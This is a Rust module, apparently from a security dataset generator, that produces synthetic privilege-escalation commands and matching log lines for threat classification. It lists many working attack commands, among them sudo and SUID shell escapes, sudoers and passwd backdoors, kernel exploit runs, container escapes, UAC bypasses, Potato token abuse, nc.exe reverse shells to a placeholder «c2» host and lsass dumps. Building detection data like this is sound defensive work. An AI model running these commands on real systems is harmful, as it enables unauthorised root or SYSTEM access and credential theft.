//! Privilege escalation: shell escapes from binaries run with sudo or SUID, capabilities,
//! sudoers and passwd edits, kernel exploits and their enumeration scripts, container escapes,
//! Windows token, UAC-bypass and service abuse, and the log lines all of these leave (sudo
//! `COMMAND=/bin/bash`, auditd euid changes, 4672/4728/4732 events, EDR verdicts).

use super::context::{self, syslog, Os};
use super::encode;
use super::{Generator, Rng};
use crate::threat::ThreatType;
use serde_json::json;

pub const GENERATORS: &[Generator] = &[
    Generator { name: "pe_shell_escape", label: ThreatType::PrivilegeEscalation, weight: 30, make: pe_shell_escape },
    Generator { name: "pe_file_abuse", label: ThreatType::PrivilegeEscalation, weight: 12, make: pe_file_abuse },
    Generator { name: "pe_suid_caps", label: ThreatType::PrivilegeEscalation, weight: 12, make: pe_suid_caps },
    Generator { name: "pe_accounts", label: ThreatType::PrivilegeEscalation, weight: 10, make: pe_accounts },
    Generator { name: "pe_kernel", label: ThreatType::PrivilegeEscalation, weight: 8, make: pe_kernel },
    Generator { name: "pe_container", label: ThreatType::PrivilegeEscalation, weight: 6, make: pe_container },
    Generator { name: "pe_windows", label: ThreatType::PrivilegeEscalation, weight: 22, make: pe_windows },
    Generator { name: "pe_logs", label: ThreatType::PrivilegeEscalation, weight: 18, make: pe_logs },
];

/// The shell an escape ends in.
const SHELLS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "sh",
    "bash",
    "/bin/sh -p",
    "/bin/bash -p",
    "/bin/sh -i",
    "/usr/bin/bash",
    "/bin/dash",
    "/bin/zsh",
];

/// Ways a binary can be made to run a shell (`SH` is the shell).
const ESCAPES: &[&str] = &[
    "vim -c ':!SH'",
    "vi -c ':!SH' /dev/null",
    "vim -c ':py3 import os; os.execl(\"/bin/sh\", \"sh\", \"-pc\", \"reset; exec sh -p\")'",
    "find . -exec SH \\; -quit",
    "find / -name «word» -exec SH \\;",
    "awk 'BEGIN {system(\"SH\")}'",
    "gawk 'BEGIN {system(\"SH\")}'",
    "less /etc/profile",
    "more /etc/hosts",
    "man man",
    "python3 -c 'import os; os.system(\"SH\")'",
    "python -c 'import pty;pty.spawn(\"SH\")'",
    "perl -e 'exec \"SH\";'",
    "ruby -e 'exec \"SH\"'",
    "lua -e 'os.execute(\"SH\")'",
    "php -r \"system('SH');\"",
    "node -e 'require(\"child_process\").spawn(\"SH\",{stdio:[0,1,2]})'",
    "env SH",
    "nice SH",
    "ionice SH",
    "taskset 1 SH",
    "flock -u / SH",
    "timeout 7d SH",
    "stdbuf -i0 SH",
    "setarch $(arch) SH",
    "unshare SH",
    "xargs -a /dev/null SH",
    "script -q /dev/null",
    "busybox sh",
    "expect -c 'spawn SH;interact'",
    "gdb -nx -ex '!SH' -ex quit",
    "strace -o /dev/null SH",
    "ltrace -b -L SH",
    "valgrind SH",
    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=SH",
    "zip /tmp/«word».zip /etc/hosts -T -TT 'SH #'",
    "git -p help config",
    "git branch --help config",
    "ftp",
    "nmap --interactive",
    "ed",
    "journalctl",
    "systemctl",
    "crontab -e",
    "tmux",
    "screen",
    "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
    "socat stdin exec:SH",
    "run-parts --new-session --regex '^sh$' /bin",
    "start-stop-daemon -n $RANDOM -S -x SH",
    "openvpn --dev null --script-security 2 --up 'SH -c sh'",
    "mysql -e '\\! SH'",
    "sqlite3 /dev/null '.shell SH'",
    "apt-get changelog apt",
    "apt update -o APT::Update::Pre-Invoke::=SH",
    "dmesg -H",
    "cpan",
    "pip install «/tmp/«word»|.»",
    "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
    "chroot / SH",
    "pkexec SH",
    "doas -u root SH",
    "su -",
    "su root",
    "SH",
    "bash -p",
    "/usr/bin/env SH -p",
    "mount -o bind SH /bin/mount",
    "cp /bin/bash /tmp/«word»; chmod +s /tmp/«word»",
    "wget --use-askpass=«/tmp/«word»|SH» 0",
    "service ../../bin/sh",
    "watch -x sh -c 'reset; exec SH 1>&0 2>&0'",
    "nohup SH -c \"SH <$(tty) >$(tty) 2>$(tty)\"",
    "logsave /dev/null SH -i",
    "capsh --",
    "aria2c --on-download-error=/tmp/«word» http://x",
    "ssh -o ProxyCommand=';SH 0<&2 1>&2' x",
    "scp -S /tmp/«word» x y:",
    "tclsh",
    "wish",
    "view -c ':!SH'",
    "rview -c ':lua os.execute(\"reset; exec sh\")'",
    "emacs -Q -nw --eval '(term \"SH\")'",
    "nano -s SH /etc/hosts",
    "pico",
    "byebug /tmp/«word».rb",
    "irb",
    "jjs",
    "make -s --eval=$'x:\\n\\t-'\"SH\"",
    "vimdiff -c ':!SH'",
    "posh",
    "pry",
    "dash",
    "ash",
];

fn escape(rng: &mut Rng) -> String {
    let sh = if rng.placeholders { "/path/to/command" } else { rng.pick(SHELLS) };
    rng.fill_one(ESCAPES).replace("SH", sh)
}

fn pe_shell_escape(rng: &mut Rng) -> String {
    let esc = escape(rng);
    let cmd = match rng.below(10) {
        0..=5 => format!("sudo {esc}"),
        6 => format!("sudo -u root {esc}"),
        7 => format!("sudo -u#-1 {}", rng.pick(SHELLS)),
        8 => format!("sudo {}", rng.fill("«LD_PRELOAD=/tmp/«word».so «apache2|find|less|vim»|LD_LIBRARY_PATH=/tmp «apache2|sshd»|env PATH=/tmp:$PATH «service|tar»|-E «python3 /opt/«word».py|/usr/local/bin/«word».sh»»")),
        _ => esc,
    };
    if rng.chance(35) {
        context::command(rng, &cmd, Os::Linux)
    } else {
        cmd
    }
}

const SUID_AND_CAPABILITIES: &[&str] = &[
    "find / -perm -4000 -type f 2>/dev/null",
    "find / -perm -u=s -type f 2>/dev/null",
    "find / -user root -perm -4000 -exec ls -ldb {} \\;",
    "getcap -r / 2>/dev/null",
    "/usr/bin/«python3|python3.8|perl|vim.basic|node» cap_setuid+ep",
    "setcap cap_setuid+ep /usr/bin/«python3|perl|node|tar»",
    "setcap cap_dac_read_search+ep /usr/bin/«tar|vim»",
    "python3 -c 'import os; os.setuid(0); os.system(\"/bin/bash\")'",
    "perl -e 'use POSIX qw(setuid); POSIX::setuid(0); exec \"/bin/sh\";'",
    "chmod u+s /bin/bash",
    "chmod 4755 /tmp/«word»",
    "chmod +s /tmp/rootbash",
    "/tmp/rootbash -p",
    "cp /bin/bash /tmp/.«word»; chmod 4777 /tmp/.«word»",
    "./«word» -p",
    "install -m =xs $(which bash) /tmp/«word»",
    "echo 'int main(){setuid(0);setgid(0);system(\"/bin/bash\");}' > /tmp/«word».c; gcc /tmp/«word».c -o /tmp/«word»; chmod +s /tmp/«word»",
    "gcc -fPIC -shared -nostartfiles -o /tmp/«word».so /tmp/«word».c && sudo LD_PRELOAD=/tmp/«word».so «find|apache2»",
    "echo /tmp/«word».so > /etc/ld.so.preload",
    "ls -la /etc/sudoers.d/ && sudo -l",
    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='chmod u+s /bin/bash'",
    "export PATH=/tmp:$PATH && /usr/local/bin/«word»",
    "echo '/bin/bash' > /tmp/«service|ps|curl|cat»; chmod +x /tmp/«service|ps|curl|cat»; export PATH=/tmp:$PATH",
    "/usr/bin/«pkexec|passwd|mount|su|sudo|chsh»",
];

/// Root's files read or rewritten through a binary run as root, and root-run hooks pointed at
/// our own script (`TARGET` is the root-owned file, `HOOK` our script).
const FILE_ABUSE: &[&str] = &[
    "sudo tee -a TARGET",
    "echo '«user» ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers",
    "sudo cp HOOK TARGET",
    "sudo chmod «6777|4755|u+s|777» TARGET",
    "sudo setfacl -m u:«user»:rwx TARGET",
    "sudo chown «user» TARGET",
    "sudo install -m 6777 /bin/bash /tmp/«word»",
    "sudo mv HOOK /etc/cron.d/«word»",
    "sudo dd if=HOOK of=TARGET",
    "sudo chattr -i TARGET",
    "sudo systemd-run «/bin/sh|-S|HOOK»",
    "sudo openvt -- HOOK",
    "echo HOOK | sudo at now",
    "sudo tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z HOOK",
    "sudo rpm -ivh --nodeps /tmp/«word»-1.0-1.noarch.rpm",
    "sudo pip install /tmp/«word»",
    "sudo ansible-playbook /tmp/«word».yml",
    "sudo cat TARGET",
    "sudo base64 TARGET | base64 -d",
    "sudo xxd TARGET | xxd -r",
    "sudo diff --line-format=%L /dev/null TARGET",
    "sudo sed -n '1,$p' TARGET",
    "sudo «vim|nano|ed|sed -i 's/x/y/'» TARGET",
    "sudo cp /bin/sh /tmp/«word» && sudo chmod +s /tmp/«word»",
    "sudo sysctl 'kernel.core_pattern=|HOOK'",
    "sudo dnsmasq --conf-script='HOOK'",
    "sudo restic backup --password-command='HOOK'",
    "sudo fail2ban-client set sshd action iptables actionban HOOK",
    "sudo journalctl --output-fields=HOOK",
    "echo '[Service]\nExecStart=HOOK' | sudo tee /etc/systemd/system/«word».service && sudo systemctl start «word»",
    "sudo wg-quick up /tmp/«word».conf",
    "sudo tar xf /tmp/«word».tar --to-command HOOK",
    "sudo git -c core.pager=HOOK log",
    "sudo PAGER=HOOK man man",
    "sudo EDITOR=HOOK crontab -e",
];

fn pe_file_abuse(rng: &mut Rng) -> String {
    let target = if rng.placeholders {
        rng.pick(&["/path/to/input-file", "/path/to/output-file", "/path/to/temp-file"]).to_string()
    } else {
        rng.fill("«/etc/shadow|/etc/sudoers|/etc/passwd|/root/.ssh/authorized_keys|/etc/crontab|/etc/sudoers.d/«word»|/root/.bashrc|/etc/ld.so.preload|/usr/bin/passwd»")
    };
    let hook = if rng.placeholders {
        "/path/to/command".to_string()
    } else {
        rng.fill("«/tmp/«word».sh|/dev/shm/«word»|/tmp/.«word»|/var/tmp/«word»|/home/«user»/«word»»")
    };
    let cmd = rng.fill_one(FILE_ABUSE).replace("TARGET", &target).replace("HOOK", &hook);
    if rng.chance(30) {
        context::command(rng, &cmd, Os::Linux)
    } else {
        cmd
    }
}

fn pe_suid_caps(rng: &mut Rng) -> String {
    let cmd = rng.fill_one(SUID_AND_CAPABILITIES);
    if rng.chance(30) {
        context::command(rng, &cmd, Os::Linux)
    } else {
        cmd
    }
}

fn pe_accounts(rng: &mut Rng) -> String {
    let user = rng.fill("«user»");
    let cmd = match rng.below(12) {
        0 => format!("echo '{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"),
        1 => format!(
            "echo \"{user} ALL=(ALL:ALL) NOPASSWD: ALL\" > /etc/sudoers.d/{}",
            rng.fill("««word»|90-cloud|README»")
        ),
        2 => format!(
            "echo '{}:{}:0:0:root:/root:/bin/bash' >> /etc/passwd",
            rng.fill("««word»«n9»|toor|r00t|«user»2»"),
            rng.fill("«$1$«word»$«hex16»|x|$6$«hex8»$«hex16»«hex16»»")
        ),
        3 => format!("useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {}", rng.fill("«word»|sysadm|backdoor")),
        4 => format!("usermod -aG {} {user}", rng.pick(&["sudo", "wheel", "root", "docker", "lxd", "adm", "disk"])),
        5 => format!("sed -i 's/^{user}:x:1000:/{user}:x:0:/' /etc/passwd"),
        6 => format!(
            "openssl passwd -1 -salt {} {} && echo '{}:$1$...:0:0::/root:/bin/bash' >> /etc/passwd",
            rng.fill("«word»"),
            rng.fill("«word»«n99»"),
            rng.fill("«word»")
        ),
        7 => format!("chmod 777 /etc/{}", rng.pick(&["shadow", "passwd", "sudoers"])),
        8 => format!("net localgroup administrators {user} /add"),
        9 => format!("net group \"Domain Admins\" {user} /add /domain"),
        10 => format!("Add-LocalGroupMember -Group \"Administrators\" -Member \"{user}\""),
        _ => format!("echo 'root:{}' | chpasswd", rng.fill("«word»«n99»!")),
    };
    let windows = cmd.starts_with("net ") || cmd.starts_with("Add-");
    if rng.chance(35) {
        context::command(rng, &cmd, if windows { Os::Windows } else { Os::Linux })
    } else {
        cmd
    }
}

const KERNEL_EXPLOITS: &[&str] = &[
    "gcc «dirtycow|cowroot|dirty|exploit|pwn|ofs|cve-2016-5195|cve-2021-3156|cve-2022-0847|dirtypipe».c -o «cow|exp|x|pwn» «-pthread|-static|» && ./«cow|exp|x|pwn»",
    "./«pwnkit|PwnKit|cve-2021-4034|dirtypipe|exploit|overlayfs|lpe» «/bin/bash|/usr/bin/su|»",
    "curl -L https://github.com/«carlospolop|rebootuser|mzet-»/«PEASS-ng/releases/latest/download/linpeas.sh|LinEnum/raw/master/LinEnum.sh|linux-exploit-suggester/raw/master/linux-exploit-suggester.sh» | sh",
    "./linpeas.sh -a",
    "bash les.sh --uname «n9».«n9».0",
    "./LinEnum.sh -t",
    "python3 linux-exploit-suggester-2.py",
    "wget http://«c2»/«exploit|cve-2022-0847|pwnkit»; chmod +x «exploit|cve-2022-0847|pwnkit»; ./«exploit|cve-2022-0847|pwnkit»",
    "./sudo-hax-me-a-sandwich «n9»",
    "sudoedit -s '\\' $(python3 -c 'print(\"A\"*1000)')",
    "unshare -rm sh -c \"mkdir l u w m && cp /u*/b*/p*3 l/; setcap cap_setuid+eip l/python3;mount -t overlay overlay -o rw,lowerdir=l,upperdir=u,workdir=w m && touch m/*;\" && u/python3 -c 'import os;os.setuid(0);os.system(\"bash\")'",
    "insmod /tmp/«rootkit|diamorphine|reptile».ko",
    "./«pspy64|pspy32» -pf -i 1000",
    "uname -a; cat /etc/*release; searchsploit linux kernel «4|5».«n9» privilege escalation",
];

fn pe_kernel(rng: &mut Rng) -> String {
    let cmd = rng.fill_one(KERNEL_EXPLOITS);
    if rng.chance(25) {
        context::command(rng, &cmd, Os::Linux)
    } else {
        cmd
    }
}

fn pe_container(rng: &mut Rng) -> String {
    let cmd = rng.fill(
        "«docker run -v /:/host -it «ubuntu|alpine|busybox» chroot /host «bash|sh»|docker run --rm -it --privileged --pid=host «alpine|ubuntu» nsenter -t 1 -m -u -n -i sh|docker run -it -v /etc:/mnt/etc alpine sh -c 'echo «user» ALL=(ALL) NOPASSWD:ALL >> /mnt/etc/sudoers'|lxc init «ubuntu:18.04|alpine» «privesc|x» -c security.privileged=true && lxc config device add «privesc|x» host-root disk source=/ path=/mnt/root recursive=true|kubectl run «r00t|shell|debug» --image=alpine --overrides='{\"spec\":{\"hostPID\":true,\"containers\":[{\"name\":\"x\",\"image\":\"alpine\",\"securityContext\":{\"privileged\":true},\"command\":[\"nsenter\",\"-t\",\"1\",\"-m\",\"sh\"]}]}}'|mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && echo 1 > /tmp/cgrp/x/notify_on_release|nsenter --target 1 --mount --uts --ipc --net --pid -- bash|docker -H unix:///var/run/docker.sock run -v /:/h -it alpine chroot /h|ctr run --privileged --mount type=bind,src=/,dst=/host,options=rbind docker.io/library/alpine:latest x sh»",
    );
    if rng.chance(25) {
        context::command(rng, &cmd, Os::Linux)
    } else {
        cmd
    }
}

const WINDOWS_PRIVESC: &[&str] = &[
    "PrintSpoofer«64|».exe -i -c «cmd|powershell.exe|\"c:\\temp\\nc.exe «c2» «lport» -e cmd\"»",
    "JuicyPotato.exe -l «n99»37 -p c:\\windows\\system32\\cmd.exe -a \"/c «c:\\temp\\rev.bat|net user «user» P@ssw0rd /add»\" -t *",
    "GodPotato-NET4.exe -cmd \"cmd /c whoami\"",
    "RoguePotato.exe -r «c2» -e \"C:\\Temp\\«word».exe\" -l 9999",
    "SweetPotato.exe -p c:\\windows\\system32\\cmd.exe",
    "incognito.exe execute -c \"NT AUTHORITY\\SYSTEM\" cmd.exe",
    "mimikatz.exe \"privilege::debug\" \"token::elevate\" exit",
    "mimikatz # token::elevate /domainadmin",
    "sc config «word»svc binpath= \"net localgroup administrators «user» /add\"",
    "sc config «upnphost|SSDPSRV|VulnService» binpath= \"C:\\Temp\\nc.exe -e cmd.exe «c2» «lport»\" obj= \".\\LocalSystem\" password= \"\"",
    "sc.exe create «word»svc binPath= \"cmd.exe /c C:\\Users\\Public\\«word».exe\" start= auto",
    "reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /d \"«cmd.exe|C:\\Temp\\«word».exe|powershell -w hidden»\" /f && reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /f && fodhelper.exe",
    "reg add HKCU\\Software\\Classes\\mscfile\\shell\\open\\command /d \"C:\\Windows\\System32\\cmd.exe\" /f & eventvwr.exe",
    "New-Item \"HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command\" -Force; Set-ItemProperty -Path \"HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command\" -Name \"(default)\" -Value \"cmd /c start powershell.exe\" -Force; Start-Process \"C:\\Windows\\System32\\fodhelper.exe\"",
    "reg add HKCU\\Software\\Classes\\Folder\\shell\\open\\command /d \"cmd.exe\" /f && sdclt.exe",
    "computerdefaults.exe",
    "reg add HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer /v AlwaysInstallElevated /t REG_DWORD /d 1 /f",
    "reg query HKCU\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer /v AlwaysInstallElevated",
    "msiexec /quiet /qn /i C:\\Temp\\«word».msi",
    "runas /user:«administrator|CORP\\admin» /savecred \"cmd.exe /c C:\\Temp\\«word».bat\"",
    "PsExec«64|».exe -accepteula -s -i cmd.exe",
    "psexec -s \\\\«winhost» cmd.exe",
    "powershell -ep bypass -c \". .\\PowerUp.ps1; Invoke-AllChecks\"",
    "Invoke-ServiceAbuse -Name '«word»svc' -UserName '«winuser»'",
    "Invoke-TokenManipulation -ImpersonateUser -Username \"nt authority\\system\"",
    "Get-ServiceUnquoted; Write-ServiceBinary -Name '«word»svc' -Path 'C:\\Program Files\\«word»\\service.exe'",
    "icacls \"C:\\Program Files\\«word»\\«word».exe\" /grant Everyone:F",
    "copy /y C:\\Temp\\«word».exe \"C:\\Program Files\\«word»\\service.exe\" && sc stop «word»svc && sc start «word»svc",
    "schtasks /create /ru SYSTEM /sc once /st 00:00 /tn «word» /tr \"cmd /c C:\\Temp\\«word».bat\" /f",
    "SharpUp.exe audit",
    "winPEASx64.exe quiet",
    "Rubeus.exe s4u /user:«winhost»$ /rc4:«hex16»«hex16» /impersonateuser:administrator /msdsspn:cifs/«winhost» /ptt",
    "Seatbelt.exe -group=all",
    "whoami /priv | findstr /i \"SeImpersonatePrivilege SeAssignPrimaryTokenPrivilege SeDebugPrivilege\"",
    "UACME Akagi64.exe «23|33|41|61» c:\\windows\\system32\\cmd.exe",
    "wmic service get name,pathname,startmode | findstr /i /v \"C:\\Windows\\\\\" | findstr /i /v \"\"\"",
    "takeown /f C:\\Windows\\System32\\«utilman|sethc».exe && icacls C:\\Windows\\System32\\«utilman|sethc».exe /grant administrators:F && copy /y cmd.exe C:\\Windows\\System32\\«utilman|sethc».exe",
    "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /t REG_SZ /d \"C:\\windows\\system32\\cmd.exe\"",
    "procdump.exe -accepteula -ma lsass.exe lsass.dmp",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump «n99»4 C:\\Temp\\lsass.dmp full",
];

fn pe_windows(rng: &mut Rng) -> String {
    let mut cmd = rng.fill_one(WINDOWS_PRIVESC);
    if rng.chance(8) {
        cmd = encode::cmd_obfuscate(&cmd, rng);
    }
    if rng.chance(10) && !cmd.starts_with("powershell") {
        cmd = format!("powershell -enc {}", encode::powershell_encoded(&cmd));
    }
    if rng.chance(40) {
        context::command(rng, &cmd, Os::Windows)
    } else {
        cmd
    }
}

fn pe_logs(rng: &mut Rng) -> String {
    let user = rng.fill("«user»");
    let host = rng.fill("«winhost»");
    match rng.below(13) {
        0..=2 => {
            let cmd = rng.fill("«/bin/bash|/bin/sh|/usr/bin/su -|/bin/bash -i|/usr/bin/vim /etc/sudoers|/usr/bin/find . -exec /bin/sh \\; -quit|/usr/bin/python3 -c import pty;pty.spawn(\"/bin/bash\")|/usr/bin/less /etc/shadow|/usr/bin/awk BEGIN {system(\"/bin/sh\")}|/usr/bin/env /bin/sh|/bin/chmod +s /bin/bash|/usr/bin/tee -a /etc/sudoers|/usr/bin/perl -e exec \"/bin/sh\"»");
            { let message = format!("  {user} : TTY=pts/{} ; PWD={} ; USER=root ; COMMAND={cmd}", rng.range(0, 5), rng.fill("«/home/«user»|/tmp|/dev/shm|/var/tmp»")); syslog(rng, "sudo", &message) }
        }
        3 => { let message = format!("  {user} : user NOT in sudoers ; TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND={}", rng.range(0, 5), rng.fill("«/bin/bash|/bin/su|/usr/bin/id|/bin/sh»")); syslog(rng, "sudo", &message) },
        4 => { let message = format!("  {user} : {} incorrect password attempts ; TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/bash", rng.range(2, 3), rng.range(0, 5)); syslog(rng, "sudo", &message) },
        5 => format!("type=SYSCALL msg=audit({}:{}): arch=c000003e syscall=59 success=yes exit=0 ppid={} pid={} auid=1000 uid=1000 gid=1000 euid=0 suid=0 fsuid=0 egid=0 tty=pts{} comm=\"{}\" exe=\"{}\" key=\"{}\"", rng.fill("«ts_epoch_ms»"), rng.range(100, 99999), rng.fill("«pid»"), rng.fill("«pid»"), rng.range(0, 4), rng.pick(&["sh", "bash", "pwnkit", "exploit", "rootbash", "python3"]), rng.pick(&["/tmp/rootbash", "/bin/bash", "/tmp/.x/exp", "/dev/shm/pwn", "/usr/bin/pkexec"]), rng.pick(&["priv_esc", "setuid", "rootcmd", "execve_euid0"])),
        6 => format!("{} 4672 Special privileges assigned to new logon. Subject: Account Name: {user} Account Domain: {} Privileges: SeDebugPrivilege SeTakeOwnershipPrivilege SeLoadDriverPrivilege SeImpersonatePrivilege SeTcbPrivilege", rng.fill("«ts_win»"), rng.pick(&["CORP", "WORKGROUP", host.as_str()])),
        7 => format!("{} 4732 A member was added to a security-enabled local group. Member: Account Name: {} Group: Group Name: Administrators Group Domain: Builtin Subject: Account Name: {user}", rng.fill("«ts_win»"), rng.fill("«winuser»")),
        8 => format!("{} 4728 A member was added to a security-enabled global group. Member: Account Name: CN={},CN=Users,DC=corp,DC=local Group: Group Name: Domain Admins Subject: Account Name: {user}", rng.fill("«ts_win»"), rng.fill("«user»")),
        9 => format!("{} 4720 A user account was created. Subject: Account Name: {user} New Account: Account Name: {} Attributes: User Account Control: Account Enabled; 4732 added to Administrators", rng.fill("«ts_win»"), rng.fill("««word»$|support_«n9»|«user»2»")),
        10 => {
            let cmd = rng.fill_one(WINDOWS_PRIVESC);
            format!("Process Create: Image: C:\\Windows\\System32\\cmd.exe CommandLine: {cmd} ParentImage: C:\\Windows\\System32\\{} IntegrityLevel: High User: {}", rng.pick(&["fodhelper.exe", "eventvwr.exe", "sdclt.exe", "computerdefaults.exe", "services.exe"]), rng.fill("«winuser»"))
        }
        11 => json!({"timestamp": rng.fill("«ts_iso»"), "detection": {"tactic": "Privilege Escalation", "technique": rng.pick(&["Bypass User Account Control", "Access Token Manipulation", "Exploitation for Privilege Escalation", "Setuid and Setgid", "Sudo and Sudo Caching"]),
                     "severity": rng.pick(&["high", "critical", "medium"])}, "device": {"hostname": host}, "process": {"cmdline": escape(rng), "user": user}}).to_string(),
        _ => { let message = format!("{user}: Executing command [USER=root] [TTY=/dev/pts/{}] [CWD=/tmp] [COMMAND=/bin/sh]", rng.range(0, 4)); syslog(rng, "pkexec", &message) },
    }
}
